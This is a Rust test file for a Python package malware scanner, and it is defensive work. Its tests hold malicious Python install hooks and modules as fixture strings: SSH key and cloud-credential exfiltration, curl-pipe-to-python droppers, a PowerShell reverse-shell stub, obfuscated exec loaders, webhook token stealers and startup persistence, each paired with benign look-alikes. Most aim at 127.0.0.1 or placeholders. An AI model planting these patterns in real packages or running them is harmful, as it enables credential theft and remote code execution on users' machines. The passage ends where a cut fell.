//! Rules that came from the corpus misses and the top-1000 false positives,
//! on small harmless packages of our own (payloads aim at 127.0.0.1 and at
//! placeholder tokens): each malicious shape is caught, each benign look-alike
//! is not.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use common::{SETUP, sdist, wheel};
use std::io::Write;

use custody_inspect::{Level, Verdict};

#[test]
fn fernet_encrypted_exec_in_an_install_command_is_malicious() {
    let token = format!("gAAAAAB{}", "x".repeat(120));
    let setup = format!(
        "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'k').decrypt(b'{token}'))\nsetup(name='pkg', cmdclass={{'install': I}})\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_developer_command_in_setup_py_is_not_install_time() {
    // `python setup.py upload` is run by maintainers, not by pip.
    let setup = "import os, urllib.request\nfrom setuptools import setup, Command\nclass Upload(Command):\n    def run(self):\n        urllib.request.urlopen('http://127.0.0.1:9/')\n        os.system('twine upload dist/*')\nsetup(name='pkg', cmdclass={'upload': Upload})\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn request_bin_probe_at_install_is_malicious() {
    let setup = "import socket, getpass, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://abc.oast.fun/?u=' + getpass.getuser())\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_chat_webhook_with_its_token_is_a_stealer_even_at_run_time() {
    let token = "A".repeat(68);
    let stealer = format!(
        "import requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/{token}'\ndef send(data):\n    requests.post(HOOK, json={{'content': data}})\n"
    );
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &stealer)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A notification library that only names the service is not, and
    // naming it is not acting (tqdm.contrib.telegram holds the bot API's
    // address as a constant): clean.
    let lib = "import requests\nDOCS = 'https://discord.com/api/webhooks'\ndef send(url, data):\n    requests.post(url, json=data)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lib)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn builtins_looked_up_by_computed_names_are_obfuscation() {
    let setup = "import sys\nfrom setuptools import setup\nf = getattr(__builtins__, oct.__str__()[-3] + 'xec')\nimport pip\npip.main(['install', 'x'])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn build_tools_outside_packages_and_env_copies_for_children_are_not_malicious() {
    // A vendored build tree (no __init__.py) that downloads and runs tools,
    // and a setup.py that copies the environment for a compiler.
    let tool = "import os, urllib.request, subprocess\nurllib.request.urlretrieve('https://example.org/x.tar.gz', 'x.tar.gz')\nsubprocess.check_call(['make'])\n";
    let setup = "import os, subprocess\nfrom setuptools import setup\nenv = os.environ.copy()\nsubprocess.check_call(['cc', '--version'], env=env)\nsetup(name='pkg')\n";
    let r = sdist(&[
        ("setup.py", setup),
        ("third_party/tool/fetch.py", tool),
        ("pkg/__init__.py", "VERSION = '1.0'\n"),
    ]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same environment copy sent out is exfiltration.
    let exfil = "import os, json, urllib.request\nfrom setuptools import setup\nenv = json.dumps(dict(os.environ))\nurllib.request.urlopen('http://127.0.0.1:9/', data=env.encode())\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", exfil)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn docstrings_that_show_code_are_not_code() {
    let module = "\"\"\"Usage:\n\n    import requests, os\n    requests.get('http://example.org', auth=open(os.path.expanduser('~/.aws/credentials')).read())\n    wget https://example.org/data.tar.gz\n\"\"\"\nimport getpass\nUSER = getpass.getuser()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
    let r = wheel(&[
        ("pkg.start", "pkg.hook:run\n"),
        (
            "pkg/__init__.py",
            "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
        ),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f.path == "pkg/__init__.py"
            && f.phase == custody_inspect::Phase::Startup
            && f.code == "custody::secret-access"),
        "{:#?}",
        r.findings
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.path == "pkg.start" && f.code == "custody::startup-hook")
    );
}

#[test]
fn a_privileged_pod_created_at_import_is_malicious() {
    let module = "from kubernetes import client, config\nconfig.load_incluster_config()\nspec = {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'hostPID': True}\nclient.CoreV1Api().create_namespaced_pod('kube-system', {'spec': spec})\nopen('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "custody::privileged-pod"),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn exec_through_a_lambda_of_a_reversed_compressed_blob_is_malicious() {
    use base64::Engine;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(b"import os\nos.system('id')\n").unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let reversed: String = b64.chars().rev().collect();
    let setup = format!(
        "from setuptools import setup\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{reversed}'))\nsetup(name='pkg')\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f
            .layer
            .as_deref()
            .is_some_and(|l| l.contains("reversed-base64"))),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_command_decoded_by_a_local_wrapper_and_run_is_malicious() {
    let setup = "import os, base64\nfrom setuptools import setup\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('ZWNobyBoZWxsbw=='))\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "custody::download-exec"),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn a_setup_py_spelled_in_escapes_is_malicious() {
    let spelled = |w: &str| {
        w.bytes().fold(String::new(), |mut acc, b| {
            use std::fmt::Write as _;
            let _ = write!(acc, "\\x{b:02x}");
            acc
        })
    };
    let setup = format!(
        "from setuptools import setup\nclass _O:\n    def _r(self):\n        a = '{}'\n        b = '{}'\n        c = '{}'\nsetup(name='pkg')\n",
        spelled("decompress"),
        spelled("compile"),
        spelled("globals")
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn one_function_that_fetches_and_runs_code_is_malicious_even_at_run_time() {
    let module = "import urllib.request\ndef update():\n    code = urllib.request.urlopen('http://127.0.0.1:9/u').read()\n    exec(code)\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/upd.py", module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.reasons.iter().any(|m| m.contains("pkg/upd.py, update")),
        "{:?}",
        r.reasons
    );
    // The same two calls in two functions are what libraries do.
    let split = "import urllib.request\ndef fetch():\n    return urllib.request.urlopen('http://127.0.0.1:9/u').read()\ndef run(code):\n    exec(code)\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/upd.py", split),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // And tests exercise such code on purpose.
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("tests/test_upd.py", module),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn one_function_that_reads_a_key_and_sends_is_malicious_but_a_metadata_token_fetch_is_not() {
    let stealer = "import os, requests\ndef sync():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://127.0.0.1:9/k', data=key)\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/sync.py", stealer),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let sdk = "import requests\ndef token():\n    return requests.get('http://169.254.169.254/metadata/identity/oauth2/token', headers={'Metadata': 'true'}).json()\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/imds.py", sdk),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_shell_dropper_from_a_paste_site_in_a_function_is_malicious_but_an_installer_hint_is_not() {
    let bot = "import subprocess\ndef on_start(message):\n    command = 'curl -s https://pastebin.com/raw/XXXXXXXX | python3 > /dev/null 2>&1 &'\n    subprocess.run(command, shell=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", bot)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let hint = "import subprocess\ndef prepare():\n    if subprocess.run(['uv', '--version']).returncode:\n        raise RuntimeError('install uv: curl -LsSf https://astral.sh/uv/install.sh | sh')\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "def f():\n    pass\n"),
        ("pkg/env.py", hint),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_recon_command_at_install_and_a_dns_beacon_at_import_are_malicious() {
    let setup = "import os\nfrom setuptools import setup\nos.system('whoami')\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let beacon = "import socket\ndef _check():\n    try:\n        socket.gethostbyname('pkg.probe.example.invalid')\n    except OSError:\n        pass\n_check()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", beacon)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Look-alikes: the machine type for a build, a lookup of localhost.
    let setup = "import subprocess\nfrom setuptools import setup\narch = subprocess.check_output(['uname', '-m'])\nsetup(name='pkg')\n";
    let local = "import socket\nLOCAL = socket.gethostbyname('localhost')\n";
    let r = sdist(&[("setup.py", setup), ("pkg/__init__.py", local)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_program_downloaded_and_started_or_planted_in_startup_at_install_is_malicious() {
    // A misspelt module path still means a download.
    let setup = "import urllib.request\nfrom subprocess import run\nfrom setuptools import setup\ntry:\n    urllib.urlrequest.urlretrieve('https://files.example.invalid/tool.exe', 'tool.exe')\n    run(['start', 'tool.exe'], shell=True)\nexcept Exception:\n    pass\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let startup = "import os, requests\nfrom setuptools import setup\ndata = requests.get('https://127.0.0.1:9/x.zip').content\nopen(os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.bat', 'wb').write(data)\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", startup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_short_module_is_read_whole_and_a_decoded_command_in_a_function_is_malicious() {
    // base64 of `echo hi`: what the command is does not matter, that it was
    // hidden does.
    let module = "import os, base64\ndef get(tag='x'):\n    print('fetching')\n    os.system(base64.b64decode('ZWNobyBoaQ=='))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let plain = "import subprocess\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plain)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn one_function_that_downloads_makes_executable_and_runs_is_malicious() {
    let module = "import os, subprocess, requests\ndef worker(d):\n    open(d + '/x.sh', 'wb').write(requests.get('http://127.0.0.1:9/x').content)\n    os.chmod(d + '/x.sh', 0o755)\n    subprocess.check_call(d + '/x.sh')\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/w.py", module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn code_xored_with_a_key_and_run_at_install_is_malicious() {
    // Long enough (64 characters and more) to be taken for a cipher text.
    let code = "import os\nos.system('echo hi > /dev/null')\nprint('the step ran, nothing else')\n";
    let key = "9742859652630566609335721507";
    let mut cipher = String::new();
    for (c, k) in code.chars().zip(key.chars().cycle()) {
        std::fmt::Write::write_fmt(
            &mut cipher,
            format_args!("\\x{:02x}", u32::from(c) ^ u32::from(k)),
        )
        .unwrap();
    }
    let setup = format!(
        "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        c = \"{cipher}\"\n        k = \"{key}\"\n        out = ''\n        for i in range(len(c)):\n            out += chr(ord(c[i]) ^ ord(k[i % len(k)]))\n        eval(compile(out, '<string>', 'exec'))\nsetup(name='pkg', cmdclass={{'install': I}})\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("xor") && f.code == "custody::process-spawn"),
        "the decoded layer is analysed: {:#?}",
        r.findings
    );
}

#[test]
fn a_browser_extension_planted_and_a_program_started_at_install_is_malicious() {
    let setup = "import os, subprocess\nfrom setuptools import setup\next = os.path.join(os.getenv('APPDATA', '/tmp'), 'Extension')\nos.makedirs(ext, exist_ok=True)\nsubprocess.Popen(['chrome', '--load-extension=' + ext])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Starting a compiler at install, with no persistence, is a build.
    let build = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['make', '-C', 'src'])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", build)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_python_c_one_liner_that_connects_run_at_install_is_malicious() {
    let setup = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        url = 'http://127.0.0.1:9/t'\n        os.system('''python3 -c \"import requests;print(requests.get(''' + repr(url) + ''').text)\" > /tmp/out''')\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let check = "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, '-c', 'import numpy'])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", check)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_command_decoded_into_a_variable_and_run_at_install_is_malicious() {
    // base64 of `echo hi`.
    let setup = "import base64, subprocess\ndef go():\n    encoded = 'ZWNobyBoaQ=='\n    cmd = base64.b64decode(encoded).decode('utf-8')\n    subprocess.run(cmd, shell=True)\ngo()\nfrom setuptools import setup\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A comparison is not an assignment.
    let setup = "import base64, subprocess\ndef go(cmd):\n    if cmd == base64.b64decode('ZWNobyBoaQ=='):\n        pass\n    subprocess.run(cmd)\nfrom setuptools import setup\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_powershell_reverse_shell_run_at_install_is_malicious() {
    let setup = "import os\nfrom setuptools import setup\nshell = 'powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient(\\'127.0.0.1\\',9)\"'\nos.system(shell)\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn code_spelled_as_character_codes_and_run_is_decoded_and_malicious_at_install() {
    let inner = "import os\nos.system('echo hi > /dev/null')\n";
    let codes: Vec<String> = inner.chars().map(|c| u32::from(c).to_string()).collect();
    let setup = format!(
        "exec(\"\".join(map(chr, [{}])))\nfrom setuptools import setup\nsetup(name='pkg')\n",
        codes.join(",")
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("chr-list") && f.code == "custody::process-spawn"),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_wallet_key_sent_over_the_network_is_malicious_wherever_it_runs() {
    // The tron* family: a "wallet helper" whose function posts the key it
    // was given, through a variable, to a host of the attacker's.
    let module = "import requests\n\ndef perm(private_key):\n    data = [{'key', private_key}]\n    requests.post('http://127.0.0.1:9/tron', data)\n    return 0\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "from .main import perm\n"),
        ("pkg/main.py", module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Signing locally and sending the signed transaction is what a wallet does.
    let benign = "import requests\n\ndef send(private_key, tx):\n    signed = sign(tx, private_key)\n    body = {'tx': signed.hex()}\n    requests.post('http://127.0.0.1:9/rpc', json=body)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", benign)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn aws_sdk_keys_posted_at_import_are_malicious_but_signing_with_them_is_not() {
    // fabrice: the boto3 session's keys, through two variables, to a POST.
    let stealer = "import boto3, requests\n\ndef test():\n    cd = boto3.Session().get_credentials()\n    ak = cd.access_key\n    sk = cd.secret_key\n    data = {'k': ak, 's': sk}\n    requests.post('http://127.0.0.1:9/zz', json=data, timeout=5)\n\ntest()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", stealer)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // langchain's Neptune client: the credentials sign a request (SigV4).
    let signer = "import boto3, requests\nfrom botocore.auth import SigV4Auth\nfrom botocore.awsrequest import AWSRequest\n\ndef query(session, url, data):\n    credentials = session.get_credentials()\n    credentials = credentials.get_frozen_credentials()\n    request = AWSRequest(method='POST', url=url, data=data)\n    SigV4Auth(credentials, 'neptune-db', 'us-east-1').add_auth(request)\n    return requests.post(url, headers=dict(request.headers), data=data)\n\nquery(boto3.Session(), 'http://127.0.0.1:9/', '{}')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", signer)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_module_that_reads_token_stores_and_reports_to_a_paste_hook_is_malicious() {
    // Collect in __init__, fetch the hook in one method, send in another.
    let module = "import os, json, urllib.request\nHOOK = 'https://rentry.co/placeholder/raw'\n\nclass Grabber:\n    def __init__(self):\n        self.paths = [os.getenv('APPDATA') + '/discord/Local Storage/leveldb']\n    def hook(self):\n        return urllib.request.urlopen(HOOK).read().decode()\n    def main(self, tokens):\n        urllib.request.urlopen(urllib.request.Request(self.hook(), data=json.dumps(tokens).encode()))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A notifier that posts to a chat webhook and reads nothing secret.
    let notifier = "import json, urllib.request\nHOOK = 'https://hooks.slack.com/services/placeholder'\n\nclass Notify:\n    def send(self, text):\n        urllib.request.urlopen(urllib.request.Request(HOOK, data=json.dumps({'text': text}).encode()))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", notifier)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn browser_secrets_decrypted_and_uploaded_to_dropbox_at_import_are_malicious() {
    let module = "import dropbox\nfrom win32crypt import CryptUnprotectData\n\ndef grab(blob):\n    return CryptUnprotectData(blob, None, None, None, 0)[1]\n\ndef upload(path):\n    dbx = dropbox.Dropbox('placeholder')\n    dbx.files_upload(open(path, 'rb').read(), '/x')\n\nupload(grab(b'x'))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_module_imported_by_a_decoded_name_to_run_code_is_malicious() {
    // `__import__(bytes([98, 97, ...]).decode())` is base64, spelled in bytes.
    let module = "x = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), 'b64decode')(b'cHJpbnQoMSk='))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let plugin = "import importlib\n\ndef load(name):\n    return importlib.import_module(name)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plugin)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_telegram_bot_token_shipped_with_code_that_sends_is_malicious() {
    // costrar: the token in an attribute, the URL built around it.
    let token = format!("7000000000:AA{}", "x".repeat(33));
    let module = format!(
        "import requests\n\nclass Bot:\n    def __init__(self):\n        self.token = '{token}'\n    def send(self, text):\n        requests.post(f'https://api.telegram.org/bot{{self.token}}/sendMessage', params={{'text': text}})\n"
    );
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A bot library takes the token from its user.
    let library = "import requests\n\nclass Bot:\n    def __init__(self, token):\n        self.token = token\n    def send(self, text):\n        requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', params={'text': text})\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", library)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn running_the_file_a_function_downloaded_is_malicious_wherever_it_runs() {
    let retrieve = "import os, subprocess, urllib.request\n\ndef update(url):\n    path = os.path.join('storage', 'helper.exe')\n    urllib.request.urlretrieve(url, path)\n    subprocess.run([path], check=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", retrieve)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let write = "import requests, subprocess\nFILE = 'helper.bin'\n\ndef fetch():\n    r = requests.get('http://127.0.0.1:9/', stream=True)\n    with open(FILE, 'wb') as f:\n        f.write(r.content)\n    subprocess.Popen([FILE])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", write)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let one_command = "import subprocess\n\ndef go(name):\n    subprocess.run(f'wget -qO /tmp/{name} http://127.0.0.1:9/x && chmod +x /tmp/{name} && /tmp/{name}', shell=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", one_command)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Downloading a file and running a tool on it is not running it.
    let tool = "import subprocess, urllib.request\n\ndef unpack(url, path):\n    urllib.request.urlretrieve(url, path)\n    subprocess.run(['tar', 'xf', path], check=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", tool)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_windows_program_url_and_a_spawn_at_install_are_malicious() {
    // jas9do1: curl reached through a variable, then the download started.
    let setup = "import os, subprocess\nfrom setuptools import setup\npath = os.environ['TEMP'] + '\\\\x.exe'\ncurl = os.environ['WINDIR'] + '\\\\System32\\\\curl.exe'\nsubprocess.call([curl, 'http://127.0.0.1:9/x.exe', '-o', path])\nsubprocess.call([path])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn builtins_renamed_by_assignment_are_still_seen() {
    // souptools: `free = exec`, `replace = eval`, an imported `get` renamed.
    let module = "from base64 import b64decode as alloca\nfrom requests import get as memset\nfree = exec\nreplace = eval\nURL = 'aHR0cDovLzEyNy4wLjAuMTo5L2I2NA=='\n_index = memset(alloca(URL), timeout=3)\nfree(replace(_index.text))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Renaming a function of one's own is not a builtin.
    let benign = "def compile_all(x):\n    return x\nbuild = compile_all\nbuild(1)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", benign)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn a_web_page_opened_at_import_is_a_probe() {
    let module = "import os\nos.system('start https://127.0.0.1:9/')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A command that opens a page only when the user asks is not.
    let cli = "import webbrowser\n\ndef docs():\n    webbrowser.open('https://127.0.0.1:9/')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", cli)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn look_alike_letters_in_identifiers_are_read_as_python_reads_them() {
    // colarg: `𝘳𝙚𝘀𝗽𝗼𝗻𝘀𝘦 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(...)` is `response = requests.get(...)`.
    let module = "import requests, subprocess\n\u{1d42e}\u{1d42b}\u{1d425} = 'http://127.0.0.1:9/x.exe'\n\u{1d42b} = \u{1d42b}\u{1d41e}\u{1d42a}\u{1d42e}\u{1d41e}\u{1d42c}\u{1d42d}\u{1d42c}.get(url)\nopen('x.exe', 'wb').write(r.content)\n\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}.Popen(['x.exe'])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.code == "custody::obfuscation"));
    // A table of math symbols (IPython's LaTeX completions) quotes them.
    let table = "SYMBOLS = {'\\\\mbfA': '\u{1d400}', '\\\\mbfB': '\u{1d401}'}  # \u{1d402}\nDOC = \"\"\"\u{1d403} is bold D\"\"\"\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", table)]);
    assert!(
        !r.findings.iter().any(|f| f.code == "custody::obfuscation"),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Clean);
}

#[test]
fn a_request_to_a_raw_public_address_at_import_is_malicious() {
    // solana-charts: the importing script's source, posted to a bare IP.
    // (203.0.113.0/24 is TEST-NET-3: documentation only, never routed.)
    let module = "import urllib.request, json\n\ndef post(url, data):\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    return urllib.request.urlopen(req)\n\ndef register():\n    post('http://203.0.113.7:3000/nodes/register', {'j': open(__file__).read()})\n\nregister()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A private address is a lab's own service; a public one named only in
    // a function nobody calls at import is run-time configuration.
    for lab in [
        "10.0.0.7",
        "172.16.1.1",
        "172.31.255.1",
        "100.64.0.1",
        "192.168.1.1",
    ] {
        let lab =
            format!("import urllib.request\nurllib.request.urlopen('http://{lab}:8080/health')\n");
        let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &lab)]);
        assert_ne!(r.verdict, Verdict::Malicious, "{lab}: {:#?}", r.findings);
    }
    let later =
        "import urllib.request\n\ndef ping():\n    urllib.request.urlopen('http://203.0.113.7/')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", later)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_script_written_from_a_string_belongs_to_the_function_that_writes_it() {
    // rmrentryutils: a stage-one script that runs what a paste returns,
    // written to a temp file and started with pythonw.
